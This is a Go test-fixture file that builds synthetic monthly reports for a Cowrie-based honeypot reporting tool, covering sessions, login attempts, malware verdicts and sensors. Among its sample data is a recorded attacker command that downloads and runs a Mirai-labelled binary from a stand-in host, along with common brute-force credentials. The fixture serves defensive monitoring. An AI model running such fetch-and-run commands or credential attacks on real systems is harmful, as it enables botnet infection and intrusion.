// Package reporttest has reports to try forms on.
package reporttest

import (
	"fmt"
	"reflect"
	"time"

	"midden/internal/cowrie"
	"midden/internal/report"
)

func at(s string) cowrie.Time {
	t, ok := cowrie.ParseTime([]byte(s))
	if !ok {
		panic(s)
	}
	return t
}

func hash(first string) string {
	const rest = "d12033a1c2be90b4ab03bbf252d62bb11f5371301bcfccc7b1a7a8f02cd10262"
	return first + rest[len(first):]
}

// Full returns a report of a month in which nothing is empty.
func Full() *report.Document {
	d := Empty()
	d.Sessions = report.Sessions{
		Total: 18234, UniqueIPs: 2711, WithCommands: 4120, AvgCommands: 2.37, MaxCommands: 61,
		FileDownloads: 1209, FileUploads: 83, LoginAttempts: 96415, LoggedIn: 6022, VTFlagged: 310, DShield: 12,
		AvgDuration: 31.42, MedDuration: 4.2, MaxDuration: 7214.9,
		Protocols: []report.Count{{Value: "ssh", Count: 16011}, {Value: "telnet", Count: 2223}}, UniqueProtocols: 2, UniqueVersions: 41,
		TopIPs: []report.Count{{Value: "192.0.2.170", Count: 1922}, {Value: "198.51.100.23", Count: 1200},
			{Value: "203.0.113.9", Count: 418}, {Value: "2001:db8::bad:cafe", Count: 7}},
		ClientVersions: []report.Count{{Value: "SSH-2.0-Go", Count: 9120}, {Value: "SSH-2.0-libssh_0.9.6", Count: 4011}, {Value: "SSH-2.0-PUTTY", Count: 12}},
	}
	d.Logins = report.Logins{
		Attempts: 96415, Successes: 6022, UniqueUsernames: 1204, UniquePasswords: 8112, UniquePairs: 12990,
		Usernames: []report.Count{{Value: "root", Count: 61204}, {Value: "admin", Count: 9120}, {Value: "", Count: 31}},
		Passwords: []report.Count{{Value: "123456", Count: 4410}, {Value: "P@ssw0rd", Count: 3120}, {Value: "3245gs5662d34", Count: 908}, {Value: "", Count: 77}},
		Pairs: []report.Pair{{Username: "root", Password: "123456", Attempts: 3010, Successes: 3010},
			{Username: "345gs5662d34", Password: "3245gs5662d34", Attempts: 901}, {Username: "admin", Attempts: 77, Successes: 2}},
	}
	d.Sessions.UniqueUsernames, d.Sessions.UniquePasswords = d.Logins.UniqueUsernames, d.Logins.UniquePasswords
	d.Sessions.TopUsernames, d.Sessions.TopPasswords = d.Logins.Usernames, d.Logins.Passwords
	d.Sessions.TopCombinations = []report.Count{{Value: "root:123456", Count: 3010}}
	d.Commands = report.Commands{
		Total: 43211, Unique: 913, RareTotal: 301,
		Top: []report.Command{{Command: "uname -a", Occurrences: 3120, Sessions: 3011},
			{Command: "cat /proc/cpuinfo | grep name | wc -l", Occurrences: 2100, Sessions: 2100},
			{Command: "cd /tmp; wget http://mirror.invalid/.x/sh4 -O sh4; chmod 777 sh4; ./sh4", Occurrences: 310, Sessions: 296}},
		TopCommands: []report.Count{{Value: "uname -a", Count: 3120}},
		Rare:        []report.Command{{Command: `echo -e "\x6F\x6B" && lspci | grep -i --color 'vga\|3d\|2d'`, Occurrences: 1, Sessions: 1}},
	}
	d.Files = report.Files{
		Downloads: 1209, Uploads: 83, Failed: 140, OnDisk: 3, UniqueHashes: 97, NewHashes: 14, Classifications: 9, RecentVT: 2,
		UniqueURLs: 60, UniqueNames: 12, UniquePaths: 31, UniqueHosts: 22, UniqueTypes: 2,
		TopClassifications: []report.Count{{Value: "trojan.mirai/gafgyt", Count: 31}, {Value: "miner.xmrig/coinminer", Count: 4}},
		TopHashes: []report.FileCount{
			{Shasum: hash("a8f0"), Count: 902, Sessions: 890, Name: "authorized_keys", Type: "text/plain", Size: ptr[int64](389), Status: "known",
				Malicious: ptr[int64](0), Total: ptr[int64](61), FirstSeen: at("2025-11-02T08:12:44.120000Z")},
			{Shasum: hash("53c9"), Count: 120, Sessions: 118, Name: "sh4", Type: "application/x-executable", Size: ptr[int64](98304), Status: "known",
				Classification: "trojan.mirai/gafgyt", Malicious: ptr[int64](41), Total: ptr[int64](63), FirstSeen: at("2026-03-04T21:54:30.977442Z")},
			{Shasum: hash("07c2"), Count: 5, Sessions: 5, Status: "pending", FirstSeen: at("2026-03-28T21:54:30Z")}},
		New:   []report.FileCount{{Shasum: hash("53c9"), Count: 120, Sessions: 118, Name: "sh4", Status: "known", Malicious: ptr[int64](41), Total: ptr[int64](63), FirstSeen: at("2026-03-04T21:54:30.977442Z")}},
		Top:   []report.URLCount{{URL: "http://mirror.invalid/.x/sh4", Occurrences: 118}, {URL: "ftp://anonymous:anonymous@198.51.100.200:21/w.sh", Occurrences: 14}},
		Names: []report.Count{{Value: "authorized_keys", Count: 902}, {Value: "sh4", Count: 120}},
		Paths: []report.Count{{Value: "/root/.ssh/authorized_keys", Count: 902}, {Value: "/tmp/sh4", Count: 120}},
		Hosts: []report.Count{{Value: "mirror.invalid", Count: 118}, {Value: "198.51.100.200", Count: 14}},
		Types: []report.Count{{Value: "application/x-executable", Count: 71}, {Value: "text/x-shellscript", Count: 20}},
	}
	d.Verdicts = report.Verdicts{
		NewMalicious: []report.Verdict{{Shasum: hash("53c9"), Name: "sh4", Classification: "trojan.mirai/gafgyt", Malicious: ptr[int64](41), Total: ptr[int64](63),
			FirstSeen: at("2026-03-04T21:54:30.977442Z"), VTFirstSeen: at("2026-03-05T02:00:00Z"), ObservedAt: at("2026-03-06T04:00:12Z"), Lead: ptr[int64](14729)}},
		Changed: []report.Verdict{{Shasum: hash("64b5"), Name: "w.sh", Classification: "downloader.medusa/shell", Malicious: ptr[int64](27), Total: ptr[int64](60), MaliciousWas: ptr[int64](3),
			LabelWas: "downloader.shell", FirstSeen: at("2026-01-14T19:02:57Z"), VTFirstSeen: at("2026-01-10T00:00:00Z"), ObservedAt: at("2026-03-20T04:00:12Z"), Lead: ptr[int64](-414177)}},
		Unknown:    []report.Verdict{{Shasum: hash("b9ed"), Name: "dropper", FirstSeen: at("2026-03-29T19:22:25.261454Z"), ObservedAt: at("2026-03-30T04:00:00Z"), VTFirstSeen: cowrie.NoTime}},
		SeenBefore: []report.Verdict{{Shasum: hash("53c9"), Name: "sh4", FirstSeen: at("2026-03-04T21:54:30.977442Z"), VTFirstSeen: at("2026-03-05T02:00:00Z"), ObservedAt: cowrie.NoTime, Lead: ptr[int64](14729)}},
		RecentSubmissions: []report.Verdict{{Shasum: hash("53c9"), Name: "sh4", Classification: "trojan.mirai/gafgyt", FirstSeen: at("2026-03-04T21:54:30.977442Z"),
			VTFirstSeen: at("2026-03-05T02:00:00Z"), ObservedAt: at("2026-03-06T04:00:12Z"), Lead: ptr[int64](14729)}},
		NewMaliciousTotal: 3, ChangedTotal: 1, UnknownTotal: 6, SeenBeforeTotal: 1, PendingTotal: 5,
	}
	d.Enrichments.Flagged = []report.Flagged{{Session: "e07c7e8d0baf", Sensor: "sensor-03", FirstSeen: at("2026-03-28T21:54:19.810476Z"), LastSeen: at("2026-03-28T21:54:32.046869Z"),
		IPs: []string{"192.0.2.170"}, Files: []report.FlaggedFile{
			{Shasum: hash("53c9"), Malicious: 41, Label: "trojan.mirai/gafgyt", FirstSeen: at("2026-03-05T02:00:00Z")},
			{Shasum: hash("64b5"), Malicious: 27, Label: "downloader.medusa/shell", FirstSeen: cowrie.NoTime}}}}
	d.Enrichments.FlaggedFiles = 412
	d.Abnormalities = report.Abnormalities{
		UncommonCommands: []string{"0c59ab88c2f1"}, RecentVT: []string{"e07c7e8d0baf"},
		Sessions: []report.Abnormal{
			{Session: "0c59ab88c2f1", Sensor: "sensor-01", SrcIP: "203.0.113.9", First: at("2026-03-11T03:10:00Z"), Commands: 61,
				Why: []string{"61 commands, half of all sessions have 3 or fewer", `rare command: lspci | grep -i 'vga\|3d'`}},
			{Session: "e07c7e8d0baf", Sensor: "sensor-03", SrcIP: "192.0.2.170", First: at("2026-03-28T21:54:19.810476Z"), Commands: 4,
				Why: []string{"brought a file that was new to VirusTotal"}}},
	}
	d.Sensors = []report.Sensor{
		{Name: "sensor-01", Events: 204110, Sessions: 10110, LastEvent: at("2026-03-31T23:59:41.5Z"), Silence: ptr[int64](18)},
		{Name: "sensor-03", Events: 120998, Sessions: 8124, LastEvent: at("2026-03-29T21:54:32.046869Z"), Silence: ptr[int64](180327)},
		{Name: "dmz-7", LastEvent: cowrie.NoTime}}
	for i := range d.Days {
		wave := int64(i*7%13 + i%5*3)
		d.Days[i].Events, d.Days[i].Sessions = 9000+wave*311, 400+wave*23
		d.Days[i].Logins, d.Days[i].Transfers = 2600+wave*71, wave*wave/9
	}
	d.Comparison = report.Comparison{Date: "2026-02", Metrics: []report.Metric{
		{Name: "events.total", Value: 325108, Before: 301774, Change: ptr(7.732276)},
		{Name: "sessions.total", Value: 18234, Before: 16220, Change: ptr(12.416769)},
		{Name: "sessions.unique_ips", Value: 2711, Before: 2711, Change: ptr(0.0)},
		{Name: "logins.successes", Value: 6022, Before: 7001, Change: ptr(-13.98)},
		{Name: "commands.total", Value: 43211, Before: 40000, Change: ptr(8.0275)},
		{Name: "files.new_hashes", Value: 14, Before: 0},
		{Name: "verdicts.new_malicious_total", Value: 3, Before: 1, Change: ptr(200.0)}}}
	d.Alerts = []string{"3 files are called malicious for the first time.", `sensor "sensor-03" has been silent since 2026-03-29T21:54:32Z, for 2d2h5m.`}
	d.Notes = []string{"5 files were not asked about yet: midden enrich asks."}
	noNull(reflect.ValueOf(d).Elem())
	return d
}

// Empty returns a report of a month in which nothing happened.
func Empty() *report.Document {
	d := &report.Document{
		Timestamp: at("2026-02-28T23:00:00Z"), GeneratedAt: at("2026-04-01T06:00:00Z"),
		ReportType: "monthly", Date: "2026-03", DateRange: "2026-03-01/2026-03-31", YearWeek: "2026-W09", YearMonth: "2026-03",
		DaysIncluded: 31, Timezone: "Europe/Berlin", From: at("2026-02-28T23:00:00Z"), To: at("2026-03-31T22:00:00Z"), Sensor: "aggregate", AllSensors: true,
		Comparison: report.Comparison{Date: "2026-02"},
	}
	first := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	for i := range d.DaysIncluded {
		d.Days = append(d.Days, report.Day{Date: first.AddDate(0, 0, i).Format(time.DateOnly)})
	}
	noNull(reflect.ValueOf(d).Elem())
	return d
}

func ptr[T any](v T) *T { return &v }

// Many returns a report with so many sensors that no page shows all of them.
func Many() *report.Document {
	d := Empty()
	for i := range 250 {
		d.Sensors = append(d.Sensors, report.Sensor{Name: fmt.Sprintf("sensor-%03d", i), LastEvent: cowrie.NoTime})
	}
	return d
}

// noNull gives every list that is nil no elements, as reports have it.
func noNull(v reflect.Value) {
	switch v.Kind() {
	case reflect.Struct:
		for i := range v.NumField() {
			noNull(v.Field(i))
		}
	case reflect.Slice:
		if v.IsNil() {
			v.Set(reflect.MakeSlice(v.Type(), 0, 0))
		}
		for i := range v.Len() {
			noNull(v.Index(i))
		}
	}
}
